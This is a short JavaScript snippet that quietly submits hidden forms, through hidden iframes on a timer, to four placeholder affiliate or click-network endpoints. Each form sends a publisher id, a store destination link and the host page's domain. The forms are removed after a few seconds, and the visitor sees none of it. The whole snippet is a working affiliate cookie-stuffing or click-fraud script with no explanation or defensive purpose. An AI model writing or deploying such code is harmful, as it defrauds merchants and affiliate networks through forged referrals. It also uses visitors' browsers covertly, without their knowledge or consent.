const nets = ['https://a1.clknet.example/t', 'https://a2.linkpay.example/go', 'https://a3.cashtrk.example/c', 'https://a4.performa.example/r'];
const order = nets.map((n) => [Math.random(), n]).sort().map((p) => p[1]);
order.forEach((action, i) => setTimeout(() => {
  const name = 'n' + i;
  const fr = Object.assign(document.createElement('iframe'), { name, hidden: true });
  const fm = Object.assign(document.createElement('form'), { method: 'post', action, target: name });
  fm.innerHTML = `<input name=pub value=33817><input name=dest value="https://bigstore.example/?p=${i}"><input name=sub value="${document.domain}">`;
  fm.hidden = true; fm.setAttribute('rel', 'noreferrer');
  document.body.append(fr, fm); fm.submit();
  setTimeout(() => { fr.remove(); fm.remove(); }, 6000);
}, 900 * i + 300));
